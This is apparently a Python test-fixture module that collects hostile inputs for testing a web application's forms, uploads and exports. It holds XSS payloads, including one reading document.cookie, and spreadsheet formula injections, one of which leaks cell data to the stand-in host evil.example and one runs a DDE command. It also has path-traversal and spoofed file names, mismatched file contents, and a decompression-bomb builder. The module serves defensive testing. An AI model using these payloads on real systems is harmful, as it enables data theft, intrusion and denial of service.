"""A corpus of hostile values for free-text fields and uploads (issue #10, "Hostile input").

Each group names what it attacks; `test_hostile_input` tries them in the forms, the API,
the pages, the PDFs, the e-mails and the exports.
"""

from __future__ import annotations

import io
import zipfile

# --- markup: must be stored as typed and shown as text everywhere ---------------------------

SCRIPT = '<script>alert("xss")</script>'
ATTRIBUTE_BREAK = '"><img src=x onerror=alert(1)>'
JAVASCRIPT_URL = "javascript:alert(document.cookie)"
SVG = "<svg onload=alert(1)><script>alert(2)</script></svg>"
MARKUP = (SCRIPT, ATTRIBUTE_BREAK, JAVASCRIPT_URL, SVG)
#: One line holding every markup payload (for single-line fields).
ALL_MARKUP = " ".join(MARKUP)
#: Fragments that would only appear in a page if the markup was not escaped.
RAW_FRAGMENTS = ("<script>alert", "<img src=x", "<svg onload")

# --- spreadsheet formulas: must never start a cell of an export -----------------------------

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign, read as "=" by some spreadsheet programs
)
#: What a spreadsheet program reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# --- characters PostgreSQL cannot store, bytes that are not UTF-8 ----------------------------

NUL = "before\x00after"
INVALID_UTF8 = b"caf\xe9 \xff\xfe"

# --- uploaded file names ---------------------------------------------------------------------

TRAVERSAL_NAMES = (
    "../../../../etc/passwd.pdf",
    "..\\..\\..\\windows\\win.ini.pdf",
    "/etc/cron.d/evil.pdf",
    "C:\\Windows\\System32\\evil.pdf",
    "report\u202egpj.pdf",  # right-to-left override: shows as "reportfdp.jpg"
    'quote"; filename="evil.html.pdf',
    "x" * 400 + ".pdf",
)

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 64
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
#: (name, content): content that does not match the name's extension.
MISMATCHED_FILES = (
    ("invoice.pdf", EXE),
    ("photo.png", HTML),
    ("plan.docx", HTML),
    ("table.xlsx", PDF),
)


def decompression_bomb(expanded_mb: int = 40) -> bytes:
    """A small .xlsx-shaped zip whose shared strings expand to `expanded_mb` MB of zeros
    (about 1000 to 1). Written in chunks, so building it never holds the expanded data."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as entry:
            chunk = b"0" * (1024 * 1024)
            for _ in range(expanded_mb):
                entry.write(chunk)
    return buffer.getvalue()
